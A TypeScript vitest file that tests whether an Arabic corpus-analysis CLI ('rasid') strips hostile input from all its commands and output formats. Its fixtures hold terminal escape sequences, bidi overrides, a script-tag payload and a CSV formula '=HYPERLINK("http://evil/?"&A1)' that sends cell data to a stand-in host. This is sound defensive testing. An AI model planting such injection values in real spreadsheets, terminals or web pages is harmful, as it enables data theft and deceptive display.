/**
 * Control and direction characters, formulas and markup in everything that a corpus, a gazetteer or a caller can name →
 * every command and format. None reaches the reader raw; JSON keeps them, escaped.
 */
import { writeFileSync } from 'node:fs';
import { DOMParser } from 'linkedom';
import { beforeAll, describe, expect, test } from 'vitest';
import { COMMAND_ENTRIES } from '../../src/cli/commands/index.ts';
import { type Outcome, PROGRAM, rasid, rasidProcess, shell } from '../support/program.ts';
import { scratch } from '../support/scratch.ts';

/** C0 without the line ends and tabs of formats, DEL, C1, overrides, isolates, deprecated signs, separators, tags. */
const RAW = /[\0-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u206f\u2028\u2029\u{e0000}-\u{e007f}]/u;
/** One of every kind. */
const SIGNS = '\u001b[31m\u001b]0;owned\u0007\u0000\u007f\u009b2J\u202e\u2066\u206a\u2028\r\u{e0041}';
const MARKUP = '<script>alert(1)</script>&"\'|`]]>';
const FORMULA = '=HYPERLINK("http://evil/?"&A1)';
/** What a file name may hold: no NUL, no slash. */
const NAME = `${FORMULA}${SIGNS}${MARKUP}`.replaceAll(/[\0/]/gu, '');

const files = scratch();
const CORPUS = files.path('corpus');
const GAZETTEER = files.path('gazetteer.json');

function body(turn: number): string {
  const evil = `${SIGNS} ${MARKUP}`;
  return [
    `قال وزير الخارجية المصري ${evil} سامح شكري إن الناتو${SIGNS}يدعم الحكومة في القاهرة يوم الأحد ${10 + turn} مارس 2024 .`,
    `وأضاف الوزير ${FORMULA} أن شركة النفط العربية${evil} وقعت اتفاقا مع الاتحاد الأوروبي غدا${evil} في مايو 2024.`,
    'وقال وزير الخارجية إن الحكومة المصرية ستزور السعودية والعراق الأسبوع المقبل ، والحكومة تدعم الوزير.',
  ].join(' ');
}

beforeAll(() => {
  const record = (turn: number): string =>
    JSON.stringify({
      id: `${FORMULA}${SIGNS}${MARKUP}${turn}`,
      title: `${FORMULA} عنوان ${SIGNS}${MARKUP}`,
      source: `${FORMULA}${SIGNS}${MARKUP}`,
      url: `https://example.org/${SIGNS}${MARKUP}`,
      tags: [`${FORMULA}${SIGNS}`, MARKUP],
      published: '2024-03-10',
      text: body(turn),
    });
  files.write(`corpus/${NAME}.ndjson`, `${[1, 2, 3].map(record).join('\n')}\n{${SIGNS}\n`);
  const page = `${FORMULA} عنوان الخبر ${SIGNS.replace('\0', '')}${MARKUP}\nالقاهرة 12 مارس 2024 - ${body(4)}\n`;
  files.write(`corpus/${NAME}.txt`, page.replaceAll('\0', ''));
  files.write(
    'corpus/undated.txt',
    `عنوان ${SIGNS}${MARKUP}\nقال الوزير غدا${SIGNS}الخميس إن الحكومة${MARKUP} مستمرة\n`.replace(/\0/gu, ''),
  );
  writeFileSync(Buffer.concat([Buffer.from(`${CORPUS}/\u001b[2J`), Buffer.from([0xe9]), Buffer.from('.txt')]), 'قال');
  files.write(
    'gazetteer.json',
    JSON.stringify({
      schema: 'gazetteer/1',
      entries: [
        {
          type: 'company',
          id: `=a${SIGNS}${MARKUP}`,
          ar: `${FORMULA}${SIGNS}`,
          en: `@e${SIGNS}${MARKUP}`,
          names: ['شركة النفط'],
        },
        { type: 'minister', id: `=m${SIGNS}`, ar: `${MARKUP}${SIGNS}`, en: `+${SIGNS}`, names: ['سامح شكري'] },
      ],
    }),
  );
  for (const turn of ['old', 'new'])
    rasid(['entities', CORPUS, '--gazetteer', GAZETTEER, '--json', '-o', files.path(`${turn}.json`)]);
});

const FORMATS = ['table', 'json', 'ndjson', 'csv', 'tsv', 'markdown'];
const OWN = ['--gazetteer', GAZETTEER, '--labels', 'both'];
/** Every form of every command that shows something of the corpus; whatever has `--format` is tried in each. */
const FORMS: readonly (readonly [command: keyof typeof COMMAND_ENTRIES, ...args: string[]])[] = [
  ['report', CORPUS, ...OWN],
  ['keywords', CORPUS, '--by', 'surface', '--ngrams', '1-2', '--keep-stop-words'],
  ['keywords', CORPUS, '--group-by', 'source'],
  ['keywords', CORPUS, '--group-by', 'article'],
  ['entities', CORPUS, ...OWN],
  ['entities', CORPUS, ...OWN, '--group-by', 'article'],
  ['entities', CORPUS, ...OWN, '--group-by', 'source'],
  ['entities', CORPUS, ...OWN, '--matrix'],
  ['entities', CORPUS, ...OWN, '--comentions', 'sentence', '--min-count', '1'],
  ['entities', CORPUS, ...OWN, '--members'],
  ['entities', CORPUS, ...OWN, '--mentions', '--context', '9'],
  ['timeline', CORPUS, '--gazetteer', GAZETTEER],
  ['timeline', CORPUS, '--plot'],
  ['timeline', CORPUS, '--unresolved'],
  ['timeline', CORPUS, '--mentions'],
  ['articles', CORPUS],
  ['articles', CORPUS, '--lines'],
  ['statistics', CORPUS, '--unknown', '50'],
  ['concordance', 'وزير', CORPUS],
  ['concordance', 'entity:NATO', CORPUS, '--sort', 'right'],
  ['collocates', 'وزير', CORPUS, '--by', 'surface', '--min-count', '1'],
  ['keyness', CORPUS, '--reference', CORPUS, '--by', 'surface', '--min-count', '1'],
  ['trend', 'وزير', CORPUS],
  ['trend', 'وزير', CORPUS, '--plot'],
  ['diff', files.path('old.json'), files.path('new.json'), '--unchanged'],
  ['tokens', CORPUS],
  ['check', CORPUS, ...OWN, '--assert', 'tokens<1', '--assert', 'date.last<2000', '--assert', 'warn:sources>99'],
  ['check', CORPUS, '--list-metrics'],
  ['explain', `وال${SIGNS}${MARKUP}وزراء`],
  ['explain', `${FORMULA} الأحد 15 أكتوبر ${SIGNS}`],
];

/** Forms with an output of their own. */
const OTHERS: readonly (readonly [command: keyof typeof COMMAND_ENTRIES, ...args: string[]])[] = [
  ['entities', CORPUS, ...OWN, '--comentions', 'sentence', '--min-count', '1', '--gexf'],
  ['timeline', CORPUS, '--dates', '--gazetteer', GAZETTEER],
  ['check', CORPUS, ...OWN, '--assert', 'tokens<1', '--reporter', 'table,json,junit,github,markdown,ndjson,csv,tsv'],
  ['schema', 'articles'],
  ['schema', SIGNS],
  ['completion', 'bash'],
  ['completion', 'zsh'],
  ['completion', 'fish'],
  ['completion', SIGNS],
  ['stem', '--help'],
  ['keywords', CORPUS, '--top', SIGNS],
  ['keywords', CORPUS, `--${SIGNS}`],
  ['keywords', `${CORPUS}/${SIGNS.replace('\0', '')}*`],
  ['keywords', CORPUS, '--source', SIGNS],
  ['keywords', CORPUS, '--stop-words', SIGNS.replace('\0', '')],
  ['keywords', CORPUS, '-o', `/${SIGNS.replace('\0', '')}/x`],
  ['concordance', `${SIGNS}لاشيء`, CORPUS],
  ['concordance', `entity:${SIGNS}`, CORPUS],
  ['trend', `وزر${SIGNS}`, CORPUS],
  ['check', CORPUS, '--assert', `keyword.${SIGNS}.count>=1`],
  ['check', CORPUS, '--assert', SIGNS],
  ['check', CORPUS, '--checks', GAZETTEER],
  ['check', CORPUS, '--reporter', SIGNS],
  ['diff', GAZETTEER, GAZETTEER],
];

/** The call, without what would reach the terminal of the test run. */
function titleOf(args: readonly string[]): string {
  return args.map(arg => arg.replace(files.folder, '').replaceAll(/[^ -~\u0621-\u064a]/gu, '?')).join(' ');
}

/** The cells of a CSV text. */
function cells(text: string): string[] {
  return [...text.matchAll(/(?<=^|[,\n])(?:"((?:[^"]|"")*)"|([^,"\n]*))/gu)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

const FORMULA_START = /^[=+\-@\t\r](?!\d+(?:\.\d+)?(?:e[+-]?\d+)?$)/u;

/** Line ends of CSV are CR LF (RFC 4180); a bare CR writes over the line. */
function expectClean({ stdout, stderr }: Outcome): void {
  expect(RAW.exec(stdout.replaceAll('\r\n', '\n'))).toBeNull();
  expect(RAW.exec(stderr)).toBeNull();
  expect(stderr).not.toMatch(/\n {4}at |internal error/u);
}

describe('every command', () => {
  test('is among the forms', () => {
    const tried = new Set<string>([...FORMS, ...OTHERS].map(([command]) => command));
    expect(Object.keys(COMMAND_ENTRIES).filter(name => !tried.has(name))).toEqual([]);
  });

  test.each(FORMS.map(args => ({ title: titleOf(args), args })))('$title', ({ args }) => {
    const wanted = args[0] === 'check' && !args.includes('--list-metrics') ? [1, 3] : [0, 3];
    for (const format of FORMATS) {
      const outcome = rasid([...args, '--format', format]);
      expect(wanted).toContain(outcome.code);
      expectClean(outcome);
      if (format === 'csv')
        expect(cells(outcome.stdout.replaceAll('\r\n', '\n')).filter(cell => FORMULA_START.test(cell))).toEqual([]);
      if (format === 'tsv')
        expect(outcome.stdout.split(/[\t\n]/u).filter(cell => FORMULA_START.test(cell.replace(/^"/u, '')))).toEqual([]);
      if (format === 'markdown') expect(outcome.stdout).not.toContain('<script');
      if (format === 'json') JSON.parse(outcome.stdout);
    }
  });

  test.each(OTHERS.map(args => ({ title: titleOf(args), args })))('$title', ({ args }) => expectClean(rasid(args)));

  test.each(Object.keys(COMMAND_ENTRIES))('%s --help', name => expectClean(rasid([name, '--help'])));
});

describe('what is kept', () => {
  test('JSON gives ids, titles, sources, tags and paths back without loss', () => {
    const { stdout } = rasid(['articles', CORPUS, '--json']);
    const { rows, errors } = JSON.parse(stdout);
    const record = rows.find(({ article }: { article: string }) => article === `${FORMULA}${SIGNS}${MARKUP}2`);
    expect(record).toMatchObject({
      title: `${FORMULA} عنوان ${SIGNS}${MARKUP}`,
      source: `${FORMULA}${SIGNS}${MARKUP}`,
      tags: [`${FORMULA}${SIGNS}`, MARKUP],
      path: `${CORPUS}/${NAME}.ndjson`,
    });
    expect(errors).toHaveLength(1);
    const mentions = rasid(['entities', CORPUS, '--mentions', '--gazetteer', GAZETTEER]).stdout;
    expect(
      new Set(
        mentions
          .trimEnd()
          .split('\n')
          .map(line => JSON.parse(line).id),
      ),
    ).toContain(`=a${SIGNS}${MARKUP}`);
  });

  test('a graph is well-formed XML with the labels as text', () => {
    const { stdout } = rasid(['entities', CORPUS, ...OWN, '--comentions', 'article', '--min-count', '1', '--gexf']);
    const document = new DOMParser().parseFromString(stdout, 'text/xml');
    const labels = [...document.querySelectorAll('node')].map(node => node.getAttribute('label') ?? '');
    expect(labels.some(label => label.includes('HYPERLINK'))).toBe(true);
    expect(stdout).not.toContain('<script');
    expect(stdout.replaceAll(/&(?:amp|lt|gt|quot|apos|#\d+|#x[\da-f]+);/giu, '')).not.toContain('&');
  });
});

describe('on a terminal', () => {
  test('progress, table and errors let nothing through but their own colours and line starts', () => {
    const line = `'${process.execPath}' '${PROGRAM}' articles '${CORPUS}'`;
    const outcome = shell(`script -qec "${line.replaceAll('"', '\\"')}" /dev/null < /dev/null`, {
      env: { TERM: 'xterm' },
    });
    const own = outcome.stdout.replaceAll(/\u001b\[\d*(?:;\d+)*[mK]|\r\n?/gu, '');
    expect(own).toContain('HYPERLINK');
    expect(RAW.exec(own)).toBeNull();
    expect(outcome.stdout).not.toContain('\u001b[31mقال');
  });
});

describe('--debug', () => {
  /** Loaded before the program: its own tables cannot be read, as no one expected. */
  const broken = files.write(
    'broken.cjs',
    `const fs = require('fs');
     const read = fs.readFileSync;
     fs.readFileSync = (path, ...rest) => {
       if (String(path).includes('/data/')) throw new Error(${JSON.stringify(`${SIGNS}${MARKUP}\n    at evil`)});
       return read(path, ...rest);
     };
     require('module').syncBuiltinESMExports();`,
  );
  const env = { NODE_OPTIONS: `--require=${broken}` };

  test('an internal error is one line and 70', () => {
    const { code, stdout, stderr } = rasidProcess(['keywords', CORPUS], { env });
    expect({ code, stdout }).toEqual({ code: 70, stdout: '' });
    const last = stderr.trimEnd().split('\n').at(-1);
    expect(last).toMatch(/^rasid: error: internal error: .*\(please report it; --debug prints the stack\)$/u);
    expect(stderr).not.toMatch(/\n {4}at /u);
    expect(RAW.exec(stderr)).toBeNull();
  });

  test('prints the stack, and nothing of it raw', () => {
    const { code, stdout, stderr } = rasidProcess(['keywords', CORPUS, '--debug'], { env });
    expect({ code, stdout }).toEqual({ code: 70, stdout: '' });
    expect(stderr).toMatch(/\n {4}at .*\.js:\d+/u);
    expect(RAW.exec(stderr)).toBeNull();
    expect(rasidProcess(['keywords', CORPUS], { env: { ...env, RASID_DEBUG: '1' } }).stderr).toMatch(/\n {4}at /u);
  });

  test('an expected error has no stack', () => {
    expect(rasid(['keywords', 'no-such-folder', '--debug']).stderr).not.toMatch(/\n {4}at /u);
  });
});
